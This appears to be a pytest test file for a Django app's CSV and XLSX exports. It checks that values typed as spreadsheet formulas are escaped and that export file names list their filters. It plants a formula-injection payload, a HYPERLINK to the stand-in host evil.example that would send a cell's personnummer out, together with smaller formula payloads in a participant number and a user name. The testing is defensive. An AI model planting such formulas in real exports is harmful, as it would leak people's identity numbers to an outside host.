"""Every file Brygga writes (issues 19, 20): a value typed as a formula never becomes one, genuine
numbers stay numbers, and the file name and the title row name the filters. Parametrized over
every export, page and API."""

import csv
import datetime as dt
import io
import re

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from core.models import Municipality
from core.tabular import FORMULA_STARTS
from matching.choices import Rater
from matching.models import (
    Participant,
    ProgressionAnswer,
    ProgressionIndicator,
    ProgressionMeasurement,
)
from matching.participants.services.audit import audit_participant_read
from tests.factories.matching import ParticipantFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?pnr="&B2&"x";"Klicka")'
PNR = "=1+2"  # as if a personnummer had been typed as a formula
READER = "@SUM(1+1)"  # a user name that a spreadsheet would run
NUMBER = re.compile(r"^-?\d+(\.\d+)?( %)?$")


@pytest.fixture
def hostile(unit, guide, manager, admin_user):
    """A participant named and numbered as formulas, in a municipality and answering an indicator
    named as one, whose guide is named as one and read by a user named as one."""
    with time_machine.travel(dt.datetime(2026, 4, 15, 10, tzinfo=dt.UTC), tick=False):
        Municipality.objects.filter(code="0880").update(name=HOSTILE)
        guide.first_name, guide.last_name = HOSTILE, ""
        guide.save()
        person = ParticipantFactory(
            unit=unit,
            guide=guide,
            first_name=HOSTILE,
            municipality=Municipality.objects.get(code="0880"),
            enrolled_on=dt.date(2026, 3, 3),
        )
        Participant.objects.filter(pk=person.pk).update(personnummer=PNR)
        indicator = ProgressionIndicator.objects.filter(active=True).order_by("order").first()
        indicator.label = HOSTILE
        indicator.save()
        for day, value in ((dt.date(2026, 3, 5), 6), (dt.date(2026, 3, 25), 3)):
            m = ProgressionMeasurement.objects.create(
                participant=person, kind="interval", taken_on=day
            )
            ProgressionAnswer.objects.create(
                measurement=m, indicator=indicator, rater=Rater.PARTICIPANT, value=value
            )
        guide.username = READER
        guide.save()
        audit_participant_read(participant=person, user=guide)
    return person


STATS = {"start": "2026-01-01", "end": "2026-03-31"}
# (id, who, url, params, planted: the hostile text that reaches the start of a cell, file name)
EXPORTS = [
    ("statistics-page-csv", "manager", "/statistik/export/csv/", STATS, HOSTILE,
     "brygga-statistik_2026-01-01-2026-03-31_ame-kalmar.csv"),
    ("statistics-page-xlsx", "manager", "/statistik/export/xlsx/", {**STATS, "share": "1"}, HOSTILE,
     "brygga-statistik_2026-01-01-2026-03-31_ame-kalmar_delning.xlsx"),
    ("statistics-api-csv", "manager", "/api/v1/statistics/export/", {**STATS, "file": "csv"},
     HOSTILE, "brygga-statistik_2026-01-01-2026-03-31_ame-kalmar.csv"),
    ("progression-page-xlsx", "manager", "/metod/stegforflyttning/export/xlsx/", STATS, HOSTILE,
     "brygga-stegforflyttning_2026-01-01-2026-03-31_ame-kalmar.xlsx"),
    ("progression-api-csv", "manager", "/api/v1/progression/statistics/export/",
     {**STATS, "file": "csv", "municipality": "0880"}, HOSTILE,
     "brygga-stegforflyttning_2026-01-01-2026-03-31_ame-kalmar_hyperlinkhttpevilexamplepnrb2xklicka.csv"),
    ("fidelity-page-csv", "manager", "/metod/trohet/export/csv/", {"quarter": "2026-Q1"}, None,
     "brygga-trohet_2026-q1_ame-kalmar.csv"),
    ("fidelity-api-xlsx", "guide", "/api/v1/fidelity/export/",
     {"quarter": "2026-Q1", "file": "xlsx", "share": "1"}, None,
     "brygga-trohet_2026-q1_ame-kalmar_hyperlinkhttpevilexamplepnrb2xklicka_delning.xlsx"),
    ("sus-page-csv", "manager", "/metod/sus/export/csv/", {"month": "2026-03"}, HOSTILE,
     "sus_2026-03_ame-kalmar.csv"),
    ("sus-page-xlsx", "manager", "/metod/sus/export/xlsx/", {"month": "2026-03"}, HOSTILE,
     "sus_2026-03_ame-kalmar.xlsx"),
    ("sus-api-xlsx", "admin_user", "/api/v1/sus/", {"month": "2026-03", "file": "xlsx"}, HOSTILE,
     "sus_2026-03_ame-kalmar.xlsx"),
    ("scb-page", "manager", "/statistik/scb/", {"month": "2026-03"}, PNR,
     "scb_2026-03_ame-kalmar.csv"),
    ("scb-api", "admin_user", "/api/v1/statistics/scb/", {"month": "2026-03"}, PNR,
     "scb_2026-03_ame-kalmar.csv"),
    ("access-log", "admin_user", "/sakerhet/atkomstlogg/",
     {"from": "2026-04-01", "to": "2026-04-30", "format": "csv"}, READER,
     "access-log_2026-04-01-2026-04-30.csv"),
    ("employer-template-csv", "coordinator", "/arbetsgivare/import/mall.csv", {}, None,
     "brygga-arbetsgivare.csv"),
    ("employer-template-xlsx", "coordinator", "/arbetsgivare/import/mall.xlsx", {}, None,
     "brygga-arbetsgivare.xlsx"),
    ("history-template-csv", "manager", "/deltagare/historik/mall/csv/", {}, None,
     "deltagarhistorik-mall.csv"),
    ("history-template-xlsx", "manager", "/deltagare/historik/mall/xlsx/", {}, None,
     "deltagarhistorik-mall.xlsx"),
]  # fmt: skip


def cells(name: str, content: bytes) -> list:
    """Every cell of the file: (text, quoted) for CSV; the openpyxl cells for XLSX."""
    if name.endswith(".csv"):
        text = content.decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def live_formulas(name: str, content: bytes) -> list:
    """Cells a spreadsheet would run: text starting with = + - @ tab CR that is not quoted."""
    if name.endswith(".csv"):
        return [
            c for c in cells(name, content) if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)
        ]
    return [
        c.value
        for c in cells(name, content)
        if c.data_type == "f"
        or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS) and not c.quotePrefix)
    ]  # fmt: skip


def first_text(name: str, content: bytes) -> str:
    if name.endswith(".csv"):
        return content.decode("utf-8-sig").splitlines()[0]
    return load_workbook(io.BytesIO(content)).worksheets[0]["A1"].value


@pytest.mark.parametrize(
    ("who", "url", "params", "planted", "filename"),
    [pytest.param(*row[1:], id=row[0]) for row in EXPORTS],
)
def test_every_export_escapes_formulas_and_names_its_filters(
    request, hostile, api, who, url, params, planted, filename
):
    user = request.getfixturevalue(who)
    with time_machine.travel(dt.datetime(2026, 4, 15, 10, tzinfo=dt.UTC), tick=False):
        if url.startswith("/api/"):
            response = api(user).get(url, params)
        else:
            client = Client()
            client.force_login(user)
            response = client.get(url, params)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    content = response.content
    assert live_formulas(filename, content) == []
    if planted is not None:
        if filename.endswith(".csv"):
            assert any(c.startswith("'" + planted) for c in cells(filename, content))
        else:
            quoted = [c for c in cells(filename, content) if str(c.value).startswith(planted)]
            assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted)
    title = first_text(filename, content)
    if "mall" in filename or filename.startswith("brygga-arbetsgivare"):
        assert title.split(";")[0] in ("identifier", "name")  # templates: the header comes first
    elif filename.startswith("scb"):
        assert title == "personnummer;startdatum;slutdatum"  # SCB reads the file by position
    else:
        assert " · " in title and (
            "Period: " in title or "Månad: " in title or "Kvartal: " in title
        )
        assert "AME Kalmar" in title or filename.startswith("access-log")


def test_a_negative_change_stays_a_number(hostile, manager):
    client = Client()
    client.force_login(manager)
    with time_machine.travel(dt.datetime(2026, 4, 15, 10, tzinfo=dt.UTC), tick=False):
        body = client.get("/metod/stegforflyttning/export/csv/", STATS).content
        xlsx = client.get("/metod/stegforflyttning/export/xlsx/", STATS).content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    row = next(r for r in rows if r and r[0] == "'" + HOSTILE)
    assert row[5] == "-3.0"  # 6 → 3: a number, not escaped text
    sheet = load_workbook(io.BytesIO(xlsx)).active
    row = next(r for r in sheet.iter_rows(values_only=True) if r and r[0] == HOSTILE)
    assert row[5] == -3.0
